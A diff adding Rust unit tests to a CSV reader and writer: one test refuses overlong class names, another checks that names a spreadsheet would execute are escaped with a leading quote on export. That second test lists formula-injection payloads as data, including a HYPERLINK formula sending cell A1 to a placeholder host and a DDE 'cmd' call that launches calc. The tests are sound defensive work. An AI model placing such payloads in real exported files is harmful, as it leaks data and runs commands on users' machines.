@@ -4,8 +4,8 @@
 use greymatter::data::csv::{
     read_csv, write_csv, CsvImport, CsvOptions, Labels, Scaling, MAX_CSV_BYTES,
 };
-use greymatter::data::own::{split_by_ratio, OwnPoint, Set, MAX_POINTS};
-use greymatter::Problem;
+use greymatter::data::own::{split_by_ratio, OwnPoint, Set, MAX_CLASS_NAME, MAX_POINTS};
+use greymatter::{OwnData, Problem};
 
 const CLASSIFY: CsvOptions = CsvOptions {
     problem: Problem::Classification,
@@ -332,6 +332,21 @@ fn regression_values_outside_are_counted_or_scaled_in() {
 }
 
 #[test]
+fn a_class_name_longer_than_the_limit_is_refused_not_cut() {
+    let name = |bytes: usize| "é".repeat(bytes / 2) + &"x".repeat(bytes % 2);
+    let at_most = format!("x1,x2,label\n1,2,{}\n3,4,b\n", name(MAX_CLASS_NAME));
+    assert_eq!(read(&at_most).data.class_names[0], name(MAX_CLASS_NAME));
+    let over = format!("x1,x2,label\n1,2,a\n3,4,{}\n", name(MAX_CLASS_NAME + 1));
+    assert_eq!(
+        refusal(&over, &CLASSIFY),
+        format!(
+            "line 3, column label: the class name \"{}\" is 41 bytes long; the most is 40",
+            name(MAX_CLASS_NAME + 1)
+        )
+    );
+}
+
+#[test]
 fn the_limits_on_length_and_points() {
     let at_most = format!("x1,x2,label\n{}", "1,2,a\n".repeat(MAX_POINTS));
     assert_eq!(read(&at_most).data.points.len(), MAX_POINTS);
@@ -416,4 +431,40 @@ fn write_then_read_gives_the_same_points() {
             expected_sets[0], expected_sets[1]
         )
     );
+}
+
+#[test]
+fn names_a_spreadsheet_would_run_are_written_inert_and_read_back_as_they_were() {
+    let names = [
+        "=HYPERLINK(\"http://e.x/?\"&A1,\"open\")",
+        "@SUM(1+1)*cmd|'/C calc'!A0",
+        "+1",
+        "-x",
+        "\tx",
+        "'=a genuine quote",
+    ];
+    let data = OwnData {
+        problem: Problem::Classification,
+        points: (0..names.len() as i16)
+            .map(|class| point(-500 * class, 250, class, Set::Train))
+            .collect(),
+        class_names: names.iter().map(|name| name.to_string()).collect(),
+    };
+    let written = write_csv(&data);
+    let cells: Vec<&str> = written.lines().skip(1).collect();
+    assert_eq!(
+        cells,
+        [
+            "0,0.25,\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1,\"\"open\"\")\",train",
+            "-0.5,0.25,'@SUM(1+1)*cmd|'/C calc'!A0,train",
+            "-1,0.25,'+1,train",
+            "-1.5,0.25,'-x,train",
+            "-2,0.25,'\tx,train",
+            "-2.5,0.25,''=a genuine quote,train",
+        ]
+    );
+    let back = read_csv(&written, &CLASSIFY).unwrap().data;
+    assert_eq!(back, data);
+    // A quote before anything else is part of the name, and stays.
+    assert_eq!(read("1,2,'red\n3,4,'\n").data.class_names, ["'red", "'"]);
 }
